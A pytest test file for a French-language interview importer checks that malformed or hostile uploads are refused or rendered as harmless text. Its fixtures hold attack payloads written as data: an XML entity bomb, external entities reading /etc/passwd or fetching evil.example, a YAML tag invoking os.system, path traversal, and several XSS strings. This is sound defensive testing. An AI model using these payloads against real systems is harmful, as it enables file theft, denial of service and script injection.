"""Files that people send to be imported: refused with a word, or turned into harmless text."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from portraits.importer import cli
from portraits.reader.questionnaire import Questionnaire
from portraits.reader.source import parse
from portraits.settings import Settings

_INTERVIEW = (
    "<p><strong>Pourquoi ?</strong></p><p>Parce que.</p><p><strong>Comment ?</strong></p>"
    "<p>Ainsi.</p>"
)


def export(head: str = "", title: str = "Léa", name: str = "lea", more: str = "") -> str:
    """A WordPress export with one interview."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>{head}
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
 xmlns:wp="http://wordpress.org/export/1.2/"><channel>
<item><title>{title}</title><link>https://b.example/x</link><wp:post_type>post</wp:post_type>
<wp:post_name>{name}</wp:post_name><wp:status>publish</wp:status>
<wp:post_date>2011-07-14 10:00:00</wp:post_date>
<content:encoded><![CDATA[{_INTERVIEW}{more}]]></content:encoded></item></channel></rss>"""


def laughs() -> str:
    """Entities that grow to a billion words."""
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE rss [<!ENTITY a0 "ha">{entities}]>'


def nested_mail(depth: int) -> bytes:
    parts = "".join(
        f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(depth)
    )
    return f"From: a@b.ca\nTo: c@d.ca\nMIME-Version: 1.0\n{parts}\nBonjour\n".encode()


REFUSED: dict[str, tuple[bytes, str]] = {
    "rires.xml": (export(laughs(), "&a9;").encode(), "entités"),
    "externe.xml": (
        export('<!DOCTYPE rss [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;").encode(),
        "entités",
    ),
    "parametre.xml": (
        export('<!DOCTYPE rss [<!ENTITY % e SYSTEM "http://evil.example/"> %e;]>').encode(),
        "entités",
    ),
    "coupe.xml": (export().encode()[:-80], "s’arrête ou se brise à la ligne"),
    "autre.xml": (b"<?xml version='1.0'?><a/>", "pas une exportation de WordPress"),
    "vide.txt": (b"", "vide"),
    "blanc.txt": (b" \n\0\n", "vide"),
    "nul.txt": (b"Nom : L\0\0a\n" * 20, "octets nuls"),
    "image.txt": (b"\x89PNG\r\n\x1a\n" + bytes(64), "pas du texte"),
    "document.docx": (b"PK\x03\x04" + bytes(64), "abîmé"),
    "ancien.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64), ".docx"),
    "document.pdf": (b"%PDF-1.7", "PDF"),
    "controle.txt": (b"\x01\x02\x03 mot \x04\x05\x06" * 50, "pas du texte"),
    "coupe16.txt": ("Léa ?\nOui.\n".encode("utf-16")[:-1], "UTF-16 interrompu"),
    "lourd.txt": (b"mot " * 2_100_000, "Mo — au plus"),
    "alias.md": (b"---\na: &a [x]\nb: *a\n---\n## Pourquoi ?\n\nx\n", "alias"),
    "objet.md": (
        b"---\na: !!python/object/apply:os.system ['id']\n---\n## Un ?\n\nx\n",
        "l\u2019en-tête ne se lit pas",
    ),
    "profond.md": (b"---\n" + b"[" * 5_000 + b"\n---\n## Un ?\n\nx\n", "trop profond"),
    "profond.eml": (nested_mail(5_000), "trop profond"),
    "profond.html": (b"<html><body>" + b"<b><i>" * 4_000 + b"x", "imbriqués"),
    "absent.txt": (b"", "n’existe pas"),
}


def importing(files: list[Path], content: Path) -> tuple[int, list[str]]:
    content.mkdir(exist_ok=True)
    said: list[str] = []
    return cli.run(files, content, say=said.append, everything=True), said


def test_what_cannot_be_imported_is_named_and_leaves_nothing(tmp_path: Path) -> None:
    for name, (data, _) in REFUSED.items():
        (tmp_path / name).write_bytes(data)
    (tmp_path / "absent.txt").unlink()
    os.mkfifo(tmp_path / "tube.txt")
    files = [tmp_path / name for name in (*REFUSED, "tube.txt")] + [tmp_path]
    status, said = importing(files, tmp_path / "content")
    assert status == 1
    for name, (_, why) in REFUSED.items():
        assert any(name in line and why in line for line in said), (name, said)
    assert any("tube.txt" in line for line in said)
    assert list((tmp_path / "content").rglob("*")) == []


def test_a_source_that_takes_too_long_is_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    slow = tmp_path / "lente.html"
    slow.write_bytes(b"<html><body>" + b"<!-- -->" * 200_000)
    good = tmp_path / "bonne.xml"
    good.write_text(export(), "utf-8")
    importing([good], tmp_path / "before")  # loading the modules takes time as well
    monkeypatch.setattr(cli, "SECONDS_PER_SOURCE", 0.5)
    status, said = importing([slow, good], tmp_path / "content")
    assert status == 1
    assert any("lente.html : demande trop de calcul" in line for line in said)
    assert (tmp_path / "content" / "portraits" / "lea.md").exists()


HOSTILE = {
    "script.xml": export(
        title="&lt;script&gt;alert(1)&lt;/script&gt;",
        name="script",
        more="<p>x<script>alert(1)</script><img src=x onerror=alert(1)>"
        "<a href='javascript:alert(1)' onclick='alert(1)'>y</a><svg onload=alert(1)></p>",
    ),
    "grimpe.xml": export(name="../../../grimpe"),
    "page.html": "<html><body><h2>Pourquoi ?</h2><p onclick=alert(1)>x<script>alert(1)</script>"
    "</p><h2>Comment ?</h2><p>{{ 7*7 }} [y](javascript:alert(1))</p></body></html>",
    "texte.txt": "Léa Tremblay\n\nPourquoi ?\n<script>alert(1)</script>\n\nComment ?\n"
    "{: onclick=alert(1)} \u202egnp.exe [x](javascript:alert(1)) ---\n"
    "---\nstatus: published\n",
    "a\nb.txt": "Pourquoi ?\nParce que.\n\nComment ?\nAinsi.\n",
}


def test_hostile_sources_become_text_or_are_refused_when_the_site_is_built(tmp_path: Path) -> None:
    for name, text in HOSTILE.items():
        (tmp_path / name).write_text(text, "utf-8")
    _, said = importing([tmp_path / name for name in HOSTILE], tmp_path / "content")
    assert not any("Traceback" in line for line in said)
    folder = tmp_path / "content" / "portraits"
    written = sorted(tmp_path.rglob("*.md"))
    assert written
    for path in written:
        assert path.parent == folder
        parsed = parse(f"portraits/{path.name}", path.read_bytes(), Settings(), Questionnaire())
        if parsed.portrait is None:
            assert parsed.problems
            continue
        for exchange in parsed.portrait.exchanges:
            for danger in ("<script", "<svg", "<img", "javascript:", "onclick="):
                assert f"{danger}" not in exchange.answer.html.replace("&lt;", ""), path


def test_an_import_never_replaces_a_portrait_unasked(tmp_path: Path) -> None:
    source = tmp_path / "lea.xml"
    source.write_text(export(), "utf-8")
    assert importing([source], tmp_path / "content")[0] == 0
    portrait = tmp_path / "content" / "portraits" / "lea.md"
    portrait.write_text("retravaillé", "utf-8")
    status, said = importing([source], tmp_path / "content")
    assert status == 1
    assert any("existe déjà" in line for line in said)
    assert portrait.read_text("utf-8") == "retravaillé"
